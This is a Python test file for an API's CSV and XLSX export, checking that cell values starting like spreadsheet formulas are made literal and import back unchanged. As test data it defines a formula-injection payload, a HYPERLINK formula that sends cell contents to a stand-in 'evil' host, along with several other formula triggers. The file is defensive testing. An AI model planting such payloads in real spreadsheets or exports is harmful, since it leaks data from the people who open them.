"""Exports never hand a spreadsheet a formula: region-typed text that starts like one is made
literal (CSV and XLSX; the import results CSV is tested with import jobs) and imports back."""

import csv
import io
import zipfile
from typing import Any

import httpx
from openpyxl import load_workbook

from tests.api.bulk.helpers import EXPORT, IMPORT
from tests.conftest import Keys
from tests.factories import USCC, in_library

FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'
HOSTILE: dict[str, Any] = {
    "name": FORMULA,
    "summary": "+1+1",
    "owner": {"name": "@SUM(1)", "uscc": USCC, "type": "private"},
    "contact": {"name": "-2+3", "phone": "+86 755 0000 0000", "email": "li@example.cn"},
}
SHOWN = {
    "name": "'" + FORMULA,
    "summary": "'+1+1",
    "owner_name": "'@SUM(1)",
    "contact_name": "'-2+3",
    "contact_phone": "'+86 755 0000 0000",
}


def rows(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    reader = csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""))
    return list(reader)


async def test_csv_export_makes_every_trigger_literal(
    client: httpx.AsyncClient, keys: Keys
) -> None:
    futian = await keys.region("440304")
    await in_library(client, keys, futian, external_ref="\t=1+1", **HOSTILE)
    (public,) = rows(await client.get(EXPORT))
    assert public["external_ref"] == "'=1+1"  # the API trims the tab; the rest stays text
    assert {k: public[k] for k in ("name", "summary", "owner_name")} == {
        k: SHOWN[k] for k in ("name", "summary", "owner_name")
    }
    assert public["total_investment"] == "25000000.00"  # numbers are values, not text: untouched
    (own,) = rows(await client.get(EXPORT, headers=futian))
    assert {k: own[k] for k in SHOWN} == SHOWN


async def test_xlsx_export_writes_text_never_formulas(
    client: httpx.AsyncClient, keys: Keys
) -> None:
    futian = await keys.region("440304")
    await in_library(client, keys, futian, external_ref="=2", **HOSTILE)
    answer = await client.get(EXPORT, params={"format": "xlsx"}, headers=futian)
    assert answer.status_code == 200, answer.text
    with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        xml = b"".join(book.read(n) for n in sheets)
    assert b"<f>" not in xml and b"<f " not in xml
    sheet = load_workbook(io.BytesIO(answer.content), read_only=True).active
    assert sheet is not None
    header, values = list(sheet.iter_rows(values_only=True))
    row = dict(zip(header, values, strict=True))
    assert {k: row[k] for k in SHOWN} == SHOWN
    assert row["external_ref"] == "'=2"


async def test_an_exported_file_imports_back_to_the_same_text(
    client: httpx.AsyncClient, keys: Keys
) -> None:
    futian = await keys.region("440304")
    await in_library(client, keys, futian, external_ref="R-1", **HOSTILE)
    exported = await client.get(EXPORT, headers=futian)
    answer = await client.post(
        IMPORT, files={"file": ("back.csv", exported.content, "text/csv")}, headers=futian
    )
    assert answer.status_code == 200, answer.text
    assert answer.json()["summary"]["unchanged"] == 1, answer.text
    (listed,) = (await client.get("/api/v1/projects", headers=futian)).json()["items"]
    assert listed["name"] == HOSTILE["name"]
